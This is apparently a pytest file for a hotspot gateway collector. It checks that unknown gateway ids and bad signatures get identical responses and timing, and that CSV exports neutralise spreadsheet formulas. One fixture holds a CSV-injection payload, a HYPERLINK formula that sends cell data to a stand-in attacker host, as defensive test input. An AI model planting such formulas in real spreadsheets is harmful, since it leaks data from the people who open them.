"""Issue #10, item 16: the collector tells nobody which gateway ids exist, and no CSV it
serves carries a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import time

import pytest

from collector import ingest
from hotspot import wire
from hotspot.csvcell import neutralize
from tests.unit.collector.helpers import SECRET, body_of, register, signed_headers, usage

# Headers gunicorn or a proxy would add are not the app's; everything the app sets counts.
_VARYING = {"date", "server"}


def _attempt(client, gateway: str, secret: str):
    body, key = body_of([usage()], gateway=gateway)
    return client.post(
        wire.INGEST_PATH,
        data=body,
        headers=signed_headers(body, key, gateway=gateway, secret=secret),
    )


def _fingerprint(r):
    headers = sorted((k.lower(), v) for k, v in r.headers.items() if k.lower() not in _VARYING)
    return r.status_code, headers, r.get_data()


def test_unknown_gateway_and_bad_signature_answer_byte_for_byte_the_same(client, app):
    register(app, "desa-mati", SECRET, disabled=True)
    unknown = _attempt(client, "desa-tidak-ada", SECRET)
    bad_signature = _attempt(client, "desa-uji", "not-the-secret")
    disabled_bad_signature = _attempt(client, "desa-mati", "not-the-secret")
    assert unknown.status_code == 401
    assert _fingerprint(unknown) == _fingerprint(bad_signature)
    # A disabled gateway is told so only when it proves who it is.
    assert _fingerprint(disabled_bad_signature) == _fingerprint(unknown)
    assert _attempt(client, "desa-mati", SECRET).status_code == 403


def test_an_unknown_id_costs_the_same_hmac_work(client, monkeypatch):
    calls: list[str] = []
    real = wire.verify

    def counting(secret, signature, gateway, *rest):
        calls.append(gateway)
        return real(secret, signature, gateway, *rest)

    monkeypatch.setattr(ingest.wire, "verify", counting)
    _attempt(client, "desa-tidak-ada", SECRET)
    _attempt(client, "desa-uji", "not-the-secret")
    assert calls == ["desa-tidak-ada", "desa-uji"]


def test_unknown_and_known_ids_take_comparable_time(client):
    """Interleaved, so machine load hits both alike, and compared by their fastest answers
    (load only ever adds time; a median still moved under a busy CI box). The bound is loose
    on purpose: before the fix an unknown id skipped the body's HMAC and answered measurably
    faster."""
    times: dict[str, list[float]] = {"unknown": [], "known": []}
    for _ in range(60):
        for name, gw in (("unknown", "desa-tidak-ada"), ("known", "desa-uji")):
            started = time.perf_counter()
            assert _attempt(client, gw, "not-the-secret").status_code == 401
            times[name].append(time.perf_counter() - started)
    ratio = min(times["unknown"]) / min(times["known"])
    assert 0.6 < ratio < 1.6, ratio


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_the_one_helper_neutralises_every_formula_start(cell):
    assert neutralize(cell) == "'" + cell
    assert neutralize("Desa Sungai Duren") == "Desa Sungai Duren"
    assert neutralize(-5) == -5  # numbers stay numbers


def test_collector_csv_neutralises_what_gateways_report(client, auth, app):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    register(app, "desa-jahat", SECRET, village=evil, version="@SUM(1)")
    r = client.get("/api/v1/gateways?format=csv", headers=auth)
    assert r.mimetype == "text/csv"
    rows = {row["gateway_id"]: row for row in csv.DictReader(io.StringIO(r.get_data(as_text=True)))}
    assert rows["desa-jahat"]["village"] == "'" + evil
    assert rows["desa-jahat"]["version"] == "'@SUM(1)"
    # JSON is data, not a spreadsheet: it stays as reported.
    items = client.get("/api/v1/gateways", headers=auth).get_json()["items"]
    assert {i["gateway_id"]: i["village"] for i in items}["desa-jahat"] == evil


def test_console_csv_uses_the_same_helper():
    from portal.operator import pages

    assert pages.neutralize is neutralize
    assert pages._csv_safe("=1+1") == "'=1+1"
